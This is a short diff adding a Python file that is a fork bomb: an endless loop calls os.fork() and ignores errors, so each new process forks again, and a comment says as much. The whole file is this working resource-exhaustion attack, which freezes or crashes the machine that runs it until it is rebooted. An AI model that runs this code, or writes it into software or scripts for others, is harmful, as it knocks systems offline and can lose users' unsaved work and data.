@@ -1,0 +1,8 @@
+# Forks without end, and so does every child.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
